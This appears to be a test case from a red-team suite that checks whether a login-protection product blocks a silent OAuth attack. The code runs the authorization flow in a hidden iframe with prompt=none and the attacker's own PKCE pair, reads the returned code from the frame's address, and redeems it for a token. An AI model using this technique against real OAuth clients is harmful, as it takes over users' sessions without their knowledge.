// A real attacker: runs the code flow against the provider in a hidden frame with a PKCE pair of their own, reads the
// code from the frame's address, and redeems it. Against public clients this gives a token of their own.
export default {
  row: "silent-login-frame",
  expected: ["loses", "loses"],
  peers: true,
  fresh: true,
  after: async ({ ours, own, home, id, subject, page, isolated }) => {
    const { redteam } = globalThis;
    const encode = (bytes) =>
      btoa(String.fromCharCode(...new Uint8Array(bytes)))
        .replaceAll("+", "-")
        .replaceAll("/", "_")
        .replaceAll("=", "");
    const verifier = encode(crypto.getRandomValues(new Uint8Array(32)));
    const challenge = encode(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
    const provider = ours ? id : home;
    const client = ours ? (isolated ? "strongroom-isolated" : "strongroom-inpage") : subject;
    const callback = ours ? `${home}/auth/callback` : own + page;
    const query = new URLSearchParams({
      client_id: client,
      redirect_uri: callback,
      response_type: "code",
      scope: "openid profile",
      prompt: "none",
      state: "mine",
      code_challenge: challenge,
      code_challenge_method: "S256",
    });
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-same-origin";
    frame.src = `${provider}/${ours ? "auth" : "authorize"}?${query}`;
    document.body.append(frame);
    let code = null;
    for (let i = 0; i < 100 && !code; i++) {
      await new Promise((resolve) => setTimeout(resolve, 30));
      try {
        code = new URL(frame.contentWindow.location.href).searchParams.get("code");
      } catch {
        // Of another origin, or not there yet.
      }
    }
    const body = new URLSearchParams({
      grant_type: "authorization_code",
      client_id: client,
      redirect_uri: callback,
      code_verifier: verifier,
      code: code ?? "",
    });
    const answer = await fetch(`${provider}/${ours ? "token" : "oauth/token"}`, { method: "POST", body })
      .then((response) => response.text())
      .catch(String);
    redteam.loot(answer);
    return { code: code !== null };
  },
};
